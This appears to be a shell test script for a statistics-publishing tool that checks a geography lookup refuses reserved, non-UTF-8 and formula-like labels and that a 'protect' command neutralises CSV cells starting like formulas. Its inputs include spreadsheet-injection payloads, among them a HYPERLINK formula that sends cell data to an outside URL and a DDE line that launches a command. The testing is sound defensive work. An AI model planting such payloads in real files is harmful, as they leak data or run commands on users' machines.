# Labels: what may become a category of a published table, and how a
# published CSV cell is kept from running as a spreadsheet formula.
#  - Geography categories come from the lookup only: a postcode outside it
#    (ZE2 9AA) is counted under UNKNOWN in every geography and never makes
#    a category of its own.
#  - A lookup whose ward or LSOA name is a reserved word (Total, UNKNOWN),
#    invalid UTF-8, or starts with = + - @ tab or CR is a config error for
#    `cohort check` and `cohort run` alike: exit 2, a message naming the
#    file, line, column and rule, never the name; nothing published.
#  - `cohort protect` writes a label that starts like a formula with a
#    leading ' (OWASP's rule for CSV injection).
. "$COHORT_TOP/tests/cli/lib.sh"

cd "$scratch"
run cohort keygen test.key
expect_rc 0 "keygen writes the key"

cat > job.conf <<'EOF'
[job]
name           = labels
reference_date = 2026-06-30
periods        = 2
key_file       = test.key
output_dir     = out
lookup         = lookup.csv

[source housing]
department      = housing
path            = housing.csv
field.forename  = FORENAME
field.surname   = SURNAME
field.dob       = DOB
field.sex       = SEX
field.postcode  = POSTCODE
field.service   = TENURE
field.start_date = START
field.end_date  = END
value.service.TA = temporary_accommodation

[linkage]
keys = forename+surname+dob+postcode

[disclosure]
min_count = 1
rounding  = 1

[cohort by_district]
where = housing.any
by    = district

[cohort by_ward]
where = housing.any
by    = ward

[cohort by_lsoa]
where = housing.any
by    = lsoa
EOF
good_lookup() {
    printf 'postcode,ward,lsoa\nLS20 1AA,Northgate,E01000001\nLS21 1AB,Riverside,E01000002\n'
}
good_lookup > lookup.csv
# Five people: two in the lookup, one from Shetland (ZE2 9AA), one with a
# postcode the lookup lacks in a district it knows (LS20 9ZZ), one with none.
cat > housing.csv <<'EOF'
FORENAME,SURNAME,DOB,SEX,POSTCODE,TENURE,START,END
Ann,Able,1980-01-01,F,LS20 1AA,TA,2026-01-01,
Bob,Baker,1981-02-02,M,LS21 1AB,TA,2026-01-01,
Cat,Cole,1982-03-03,F,ZE2 9AA,TA,2026-01-01,
Dan,Dale,1983-04-04,M,LS20 9ZZ,TA,2026-01-01,
Eve,Ewe,1984-05-05,F,,TA,2026-01-01,
EOF

# --- categories come from the lookup only -------------------------------
run cohort run job.conf
expect_rc 0 "a job with postcodes outside the lookup publishes"
latest=$scratch/out/latest
# the categories of the last month, in table order: "label=count"
cats() { awk -F, '$1 == "2026-06-01" { gsub(/"/, ""); printf "%s=%s ", $2, $3 }' "$latest/$1.csv"; }
check '[ "$(cats by_district)" = "UNKNOWN=3 LS20=1 LS21=1 Total=5 " ]' \
    "by district: the lookup's districts and UNKNOWN only; ZE2 9AA and LS20 9ZZ count under UNKNOWN ($(cats by_district))"
check '! grep -q "ZE2" "$latest/by_district.csv"' "no district of an out-of-lookup postcode is published"
check '[ "$(cats by_ward)" = "UNKNOWN=3 Northgate=1 Riverside=1 Total=5 " ]' \
    "by ward: the lookup's wards and UNKNOWN only ($(cats by_ward))"
check '[ "$(cats by_lsoa)" = "UNKNOWN=3 E01000001=1 E01000002=1 Total=5 " ]' \
    "by lsoa: the lookup's LSOAs and UNKNOWN only ($(cats by_lsoa))"
check 'grep -q "^all,postcodes_not_in_lookup,2$" "$latest/quality.csv"' \
    "quality counts the two postcodes not in the lookup"
# A district of the lookup nobody lives in is still a category (count 0):
# the set of categories does not depend on the data.
{ good_lookup; printf 'LS29 7AA,Westfield,E01000003\n'; } > lookup.csv
sed 's|^output_dir .*|output_dir = out2|' job.conf > job2.conf
run cohort run job2.conf
expect_rc 0 "a lookup with an unused district publishes"
check 'grep -q "^2026-06-01,\"LS29\",0,no$" "$scratch/out2/latest/by_district.csv"' \
    "a lookup district with no one in it is a published category (0)"
good_lookup > lookup.csv

# --- lookup labels refused at load, by check and by run -----------------
# bad_label RULE COLUMN NEEDLE LINE3: line 3 of the lookup is LINE3 (printf
# format); NEEDLE is a piece of the bad name that must not be printed.
bad_label() {
    { good_lookup | head -n 2; printf "$4"; } > lookup.csv
    rm -rf "$scratch/out"
    for cmd in check run; do
        run cohort "$cmd" job.conf
        expect_rc 2 "$cmd: $1 in column $2 exits 2 ($3)"
        expect_err "lookup\\.csv:3:$2: .*\\[$1\\]" "$cmd: the message names the file, line 3, column $2 and the rule $1"
        if grep -F -q -- "$3" "$err"; then not_ok "$cmd: the message does not quote the name ($3)"
        else ok "$cmd: the message does not quote the name ($3)"; fi
    done
    check '[ ! -e "$scratch/out/latest" ]' "nothing published with $1 ($3)"
}
bad_label reserved_label 2 'tOtAl' 'LS21 1AB,tOtAl,E01000002\n'
bad_label reserved_label 2 'unKnown' 'LS21 1AB,unKnown,E01000002\n'
bad_label reserved_label 3 'tOTAL' 'LS21 1AB,Riverside,tOTAL\n'
bad_label label_not_utf8 2 'Caf' 'LS21 1AB,Caf\351 Quarter,E01000002\n'
bad_label label_formula 2 'HYPERLINK' 'LS21 1AB,"=HYPERLINK(""http://x/?""&A1,""Click"")",E01000002\n'
bad_label label_formula 2 'calc' "LS21 1AB,+cmd|' /C calc'!A0,E01000002\\n"
bad_label label_formula 2 'Minus' 'LS21 1AB,-Minus,E01000002\n'
bad_label label_formula 2 'SUM' 'LS21 1AB,@SUM(A1),E01000002\n'
bad_label label_formula 2 'Tabbed' 'LS21 1AB,\tTabbed,E01000002\n'
bad_label label_formula 2 'Returned' 'LS21 1AB,\rReturned,E01000002\n'
bad_label label_formula 3 'LsoaF' 'LS21 1AB,Riverside,=LsoaF\n'
# the exact reserved words too (their message names them, so no needle)
for word in Total UNKNOWN; do
    { good_lookup | head -n 2; printf 'LS21 1AB,%s,E01000002\n' "$word"; } > lookup.csv
    run cohort check job.conf
    expect_rc 2 "check: a ward named $word exits 2"
    expect_err 'lookup\.csv:3:2: .*\[reserved_label\]' "check: a ward named $word is a reserved label"
done
# names that only look alike are fine
{ good_lookup | head -n 2; printf 'LS21 1AB,Abbey-Park = East,E01000002\nLS29 7AA,Total Hill,E01000003\n'; } > lookup.csv
run cohort check job.conf
expect_rc 0 "check: a - or = inside a name, or Total inside a longer one, is fine"
good_lookup > lookup.csv

# --- cohort protect: labels that start like a formula -------------------
printf 'area,n\n=1+1,20\n@SUM(A1),30\n-5,40\nAbbey,50\n+cmd,60\n' > formula.csv
run cohort protect formula.csv --by area --count n --suppress 1-9 --rounding 1
expect_rc 0 "protect: a table with formula-like labels is protected"
expect_out '^"'"'"'=1\+1",20,no$' "protect: =1+1 comes out as '=1+1"
expect_out '^"'"'"'@SUM\(A1\)",30,no$' "protect: @SUM(A1) comes out as '@SUM(A1)"
expect_out '^"'"'"'-5",40,no$' "protect: -5 comes out as '-5"
expect_out '^"'"'"'\+cmd",60,no$' "protect: +cmd comes out as '+cmd"
expect_out '^"Abbey",50,no$' "protect: a plain label is unchanged"
check '! grep -Eq "(^|,)\"?[-=+@]" "$out"' "protect: no cell starts like a formula"
finish
